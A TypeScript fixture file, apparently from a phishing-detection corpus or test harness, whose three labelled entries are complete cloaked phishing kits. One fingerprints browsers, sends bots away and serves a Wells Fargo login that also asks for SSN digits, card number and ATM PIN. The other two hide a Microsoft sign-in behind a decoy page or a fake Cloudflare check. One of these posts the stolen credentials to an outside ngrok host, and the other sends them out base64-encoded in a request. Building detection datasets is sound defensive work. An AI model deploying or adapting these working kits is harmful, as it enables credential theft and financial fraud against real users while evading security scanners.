import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Kits that show something harmless to automation and the kit to people.
const raw = String.raw;
const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });
const json = (v: unknown): Route => ({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(v) });
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

export const entries: Entry[] = [
  {
    id: 'c-cloak-ua-fetch-wellsfargo',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://wf-online-verify.com/signon/index.php',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Please wait</title></head>
<body style="margin:0;font-family:Arial,sans-serif"><div id="c" style="padding:40px;color:#888">Please wait…</div>
<script>
(async function () {
  const fp = {
    ua: navigator.userAgent, wd: !!navigator.webdriver, pl: navigator.plugins.length, lang: navigator.languages.length,
    tz: Intl.DateTimeFormat().resolvedOptions().timeZone, sw: screen.width, sh: screen.height, cd: screen.colorDepth,
    touch: 'ontouchstart' in window, mem: navigator.deviceMemory || 0, hc: navigator.hardwareConcurrency || 0,
  };
  try {
    const gl = document.createElement('canvas').getContext('webgl');
    const dbg = gl && gl.getExtension('WEBGL_debug_renderer_info');
    fp.gpu = dbg ? gl.getParameter(dbg.UNMASKED_RENDERER_WEBGL) : '';
  } catch (e) { fp.gpu = ''; }
  const bad = fp.wd || /Headless|Puppeteer|Playwright|PhantomJS|Electron/i.test(fp.ua) || /SwiftShader|llvmpipe/i.test(fp.gpu) || fp.lang === 0 || fp.sw < 300;
  if (bad) { location.replace('https://www.wikipedia.org/'); return; }
  const r = await fetch('/signon/api/v2/content', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(fp) });
  const j = await r.json();
  document.open(); document.write(decodeURIComponent(escape(atob(j.d)))); document.close();
})();
</script></body></html>`,
    routes: {
      'wf-online-verify.com/signon/api/v2/content': json({
        d: b64(raw`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Wells Fargo Sign On</title><style>body{margin:0;font-family:Arial,sans-serif;background:#f4f0ed}.tp{background:#d71e28;height:64px;border-bottom:4px solid #ffcd41;color:#fff;font:700 22px Georgia;display:flex;align-items:center;padding-left:28px}.c{background:#fff;width:400px;margin:40px auto;padding:30px;border-radius:4px}.c input{width:100%;padding:12px;border:0;border-bottom:1px solid #767676;font-size:16px;margin:8px 0 18px;box-sizing:border-box}.c button{width:100%;background:#d71e28;color:#fff;border:0;border-radius:24px;padding:12px;font-size:16px}</style></head><body><div class="tp">WELLS FARGO</div><div class="c"><h2>Good morning</h2><p>Sign on to manage your accounts.</p><form id="f"><input name="j_username" placeholder="Username"><input name="j_password" type="password" placeholder="Password"><button>Sign on</button></form></div><script>document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','/signon/api/v2/save');x.send(new FormData(this));this.innerHTML='<p>Verifying…</p><input name="ssn" placeholder="Last 4 of SSN"><input name="card" placeholder="Debit card number"><input name="pin" type="password" placeholder="ATM PIN"><button>Continue</button>';});</script></body></html>`),
      }),
    },
  },
  {
    id: 'c-cloak-tz-pointer',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://vertexfreight-ltd.com/portal/',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Vertex Freight Ltd</title>
<style>body{margin:0;font-family:Helvetica,Arial,sans-serif;color:#333}.uc{text-align:center;padding:18vh 20px}.uc h1{font-weight:300;font-size:34px}</style></head>
<body><div class="uc" id="main"><h1>Vertex Freight Ltd</h1><p>Our new website is coming soon.</p><p>Contact: info@vertexfreight-ltd.com</p></div>
<script>
var tz = (Intl.DateTimeFormat().resolvedOptions().timeZone || '');
var human = matchMedia('(pointer: fine)').matches && matchMedia('(hover: hover)').matches
  && tz !== 'UTC' && tz !== 'Etc/UTC' && !/^Etc\//.test(tz)
  && screen.availHeight > 500 && navigator.languages && navigator.languages.length > 0
  && performance.getEntriesByType('navigation')[0] && performance.getEntriesByType('navigation')[0].type !== 'reload';
if (human && !sessionStorage.getItem('seen')) {
  sessionStorage.setItem('seen', '1');
  var p = 'L3BvcnRhbC8uYXNzZXRzL2dhdGUuaHRtbA==';
  fetch(atob(p)).then(function (r) { return r.text(); }).then(function (h) { document.getElementById('main').outerHTML = h; var s = document.createElement('script'); s.src = '/portal/.assets/gate.js'; document.body.appendChild(s); });
}
</script></body></html>`,
    routes: {
      'vertexfreight-ltd.com/portal/.assets/gate.html': htmlRoute(raw`<div id="ms" style="font-family:Segoe UI,sans-serif;max-width:440px;margin:80px auto;padding:40px;box-shadow:0 2px 6px #0003"><div style="font-weight:600;color:#737373;font-size:20px">Microsoft</div><h2 style="font-weight:600">Sign in</h2><p style="font-size:14px">Vertex Freight shared “Shipment_Invoice_0447.xlsx” with you. Sign in to view.</p><input id="u" type="email" placeholder="Email address" style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin-bottom:14px"><input id="p" type="password" placeholder="Password" style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0"><button id="s" style="margin-top:20px;background:#0067b8;color:#fff;border:0;padding:8px 32px">Sign in</button></div>`),
      'vertexfreight-ltd.com/portal/.assets/gate.js': js(raw`document.getElementById('s').onclick=function(){fetch('https://vf-sync.ngrok-free.app/h',{method:'POST',mode:'no-cors',body:'u='+encodeURIComponent(u.value)+'&p='+encodeURIComponent(p.value)}).then(function(){location.href='https://office.com'})};`),
    },
  },
  {
    id: 'c-cloak-checking-browser',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://secure-login.mso-auth365.info/?id=a81f02',
    body: raw`<!DOCTYPE html>
<html lang="en-US"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Just a moment...</title>
<style>
*{box-sizing:border-box}body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,sans-serif}
#chk{max-width:60rem;margin:8rem auto 0;padding:0 1.5rem}
#chk h1{font-size:2.5rem;font-weight:500;margin:0}
#chk h2{font-size:1.5rem;font-weight:500;color:#313131;margin:1rem 0 2rem}
.ring{width:30px;height:30px;border:3px solid #d9d9d9;border-top-color:#f38020;border-radius:50%;animation:sp 1s linear infinite;display:inline-block;vertical-align:middle;margin-right:10px}
@keyframes sp{to{transform:rotate(360deg)}}
.foot{font-size:.75rem;color:#666;margin-top:6rem;border-top:1px solid #d9d9d9;padding-top:1rem}
</style></head>
<body>
<div id="chk"><h1>secure-login.mso-auth365.info</h1><h2>Verifying you are human. This may take a few seconds.</h2><div><span class="ring"></span>Checking your browser…</div><div class="foot">Ray ID: <code id="ray"></code> · Performance &amp; security</div></div>
<template id="tpl">PCFET0NUWVBFIGh0bWw+PGh0bWw+PGhlYWQ+PG1ldGEgY2hhcnNldD0idXRmLTgiPjx0aXRsZT5TaWduIGluIHRvIHlvdXIgTWljcm9zb2Z0IGFjY291bnQ8L3RpdGxlPjwvaGVhZD48Ym9keT48L2JvZHk+PC9odG1sPg==</template>
<script>
document.getElementById('ray').textContent = Array.from(crypto.getRandomValues(new Uint8Array(8))).map(function (b) { return b.toString(16).padStart(2, '0'); }).join('');
var t0 = performance.now(), moves = 0;
addEventListener('mousemove', function () { moves++; });
setTimeout(function () {
  if (navigator.webdriver) { document.querySelector('#chk h2').textContent = 'Access denied. Error 1020.'; document.querySelector('.ring').remove(); return; }
  var s = document.createElement('script'); s.src = '/cdn-cgi/challenge-platform/h/b/orchestrate/jsch/v1?ray=' + document.getElementById('ray').textContent; document.body.appendChild(s);
}, 3200);
</script>
</body></html>`,
    routes: {
      'secure-login.mso-auth365.info/cdn-cgi/challenge-platform/h/b/orchestrate/jsch/v1': js(raw`(function(){
var css='body{margin:0;background:#fff;font-family:"Segoe UI",sans-serif}.w{display:flex;min-height:100vh;align-items:center;justify-content:center;background:url("data:image/svg+xml,%3Csvg xmlns=%27http://www.w3.org/2000/svg%27/%3E") #eef3f8}.c{width:440px;background:#fff;padding:44px;box-shadow:0 2px 6px #0003}.c h1{font-size:24px;font-weight:600;margin:14px 0}.c input{width:100%;border:0;border-bottom:1px solid #666;padding:7px 0;font-size:15px;margin-bottom:14px;outline:0}.c button{background:#0067b8;color:#fff;border:0;padding:7px 32px;float:right;font-size:15px}.sq{display:inline-grid;grid-template-columns:10px 10px;gap:1px}.sq i{width:10px;height:10px}';
var tpl=atob(document.getElementById('tpl').innerHTML.trim());
document.open();document.write(tpl);document.close();
var st=document.createElement('style');st.textContent=css;document.head.appendChild(st);
document.body.innerHTML='<div class="w"><div class="c"><span class="sq"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></span> <b style="color:#5e5e5e">Microsoft</b><h1>Sign in</h1><input id="em" type="email" placeholder="Email, phone, or Skype"><input id="pw" type="password" placeholder="Password"><button id="go">Sign in</button><div style="clear:both"></div></div></div>';
document.getElementById('go').onclick=function(){var d={em:document.getElementById('em').value,pw:document.getElementById('pw').value,ray:location.search};fetch('/cdn-cgi/rum?d='+btoa(JSON.stringify(d)),{keepalive:true});location.replace('https://login.live.com/')};
})();`),
    },
  },
];
